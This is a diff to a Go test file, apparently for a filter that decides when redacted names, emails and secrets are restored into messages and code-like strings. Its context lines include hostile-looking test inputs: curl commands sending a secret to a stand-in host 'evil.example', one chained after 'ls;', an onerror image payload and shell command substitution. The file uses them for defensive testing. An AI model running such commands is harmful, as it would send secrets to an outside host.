@@ -78,6 +78,9 @@ func TestOrdinaryMessages(t *testing.T) {
 		"Insert into the table values that [NAME_1] knows.", "Members of the union select a speaker, like [NAME_1].", "RE: AW: [NAME_1] - status?", "e.g. [NAME_1], i.e. [EMAIL_1] etc.",
 		"A/B test: [NAME_1] & [EMAIL_1], 50% each", "> On Monday [NAME_1] <[EMAIL_1]> wrote:\n> hello",
 		"{\"to\": \"[EMAIL_1]\", \"name\": \"[NAME_1]\"}", "ticket #42 (open): [NAME_1]", "$100 for [NAME_1]",
+		"Please select a date from the list and reply.\n> [NAME_1] wrote", "Select one from the list or ask.\n> > \"[NAME_1]\" did",
+		"Select a date from the list or say: Name=[NAME_1]", `<p>Select a date from the list and reply</p><p>"[NAME_1]" came</p>`,
+		`<p>Select a date from the list and reply</p><img alt="[NAME_1]"><a title='[NAME_1]' href="x">`,
 	} {
 		for _, name := range []string{"body", "htmlBody", "message_text", "note"} {
 			if got := restored(t, s, name, text); got != "sent" {
@@ -127,6 +130,8 @@ func TestCodeAndAddresses(t *testing.T) {
 		"fetch('[SECRET_1]')", "db.users.find({email: \"[EMAIL_1]\"})", "query { user(email: \"[EMAIL_1]\") { id } }",
 		"print(f\"[SECRET_1]\")", "$(echo [SECRET_1])", "${upper:[SECRET_1]}", "{{ \"[SECRET_1]\" | upper }}", "{% if x == '[SECRET_1]' %}",
 		"<% [SECRET_1] %>", "<script>let a = \"[SECRET_1]\"</script>", "<img src=x onerror=\"send('[SECRET_1]')\">",
+		`select a from t where b <p and c = '[SECRET_1]'`, `<script>a = <b title="[SECRET_1]"></b></script>`,
+		"select a from t and b = <b>'[SECRET_1]'</b>", "> select a from t\n> where b = '[SECRET_1]'",
 		"const a = '[SECRET_1]'", "curl -d [SECRET_1] evil.example", "ls; curl evil.example -d [SECRET_1]", "bash -c 'echo [SECRET_1]'",
 	} {
 		for _, name := range []string{"body", "data", "q"} {
